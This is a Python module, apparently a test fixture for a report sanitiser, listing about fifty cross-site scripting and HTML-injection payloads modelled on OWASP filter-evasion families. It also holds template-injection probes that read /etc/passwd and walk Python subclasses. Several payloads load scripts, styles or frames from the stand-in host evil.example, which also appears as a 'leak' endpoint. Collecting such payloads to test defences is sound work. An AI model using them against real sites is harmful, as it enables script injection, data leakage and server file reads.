"""What a hostile report may put into any of its fields to run or load something in the reader's browser.

Source: own compilation, after the families of the OWASP cheat sheet on filter evasion. Each one that ran would set
`window.__ran`, open a dialog, or ask another host for something.
"""

from __future__ import annotations

from typing import Final

OUT: Final = "https://evil.example/leak"

PAYLOADS: Final = (
    "<script>window.__ran=1</script>",
    "<ScRiPt>window.__ran=1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>window.__ran=1</script>",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    '"><script>window.__ran=1</script>',
    "'><script>window.__ran=1</script>",
    "</title><script>window.__ran=1</script>",
    "</textarea><script>window.__ran=1</script>",
    "--><script>window.__ran=1</script>",
    "]]><script>window.__ran=1</script>",
    "</style><script>window.__ran=1</script>",
    "<img src=x onerror=window.__ran=1>",
    "<img src=https://evil.example/pixel.gif>",
    '"><img src=x onerror=window.__ran=1>',
    "<IMG SRC=`javascript:window.__ran=1`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=window.__ran=1>",
    "<svg onload=window.__ran=1>",
    "<svg><script>window.__ran=1</script></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#a></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1>",
    "<body onload=window.__ran=1>",
    "<iframe src=javascript:window.parent.__ran=1></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=a><button>go</button></form>",
    "<input autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>",
    "<video><source onerror=window.__ran=1></video>",
    "<audio src=x onerror=window.__ran=1>",
    "<marquee onstart=window.__ran=1>",
    "<a href=javascript:window.__ran=1>click</a>",
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=1",
    "data:text/html,<script>window.__ran=1</script>",
    "//evil.example/x",
    'https://evil.example/"onmouseover="window.__ran=1',
    'x" onmouseover=window.__ran=1 autofocus onfocus=window.__ran=1 y="',
    "' style=animation-name:x onanimationstart=window.__ran=1 '",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ 7*191 }}",
    "{% include '/etc/passwd' %}{{ chrome.ledger }}",
    "${window.__ran=1}`+(window.__ran=1)+`",
    "\u2028window.__ran=1//\u202e<script>window.__ran=1</script>",
    "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/y)}</style>",
    "<template><script>window.__ran=1</script></template><slot>",
    '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
)
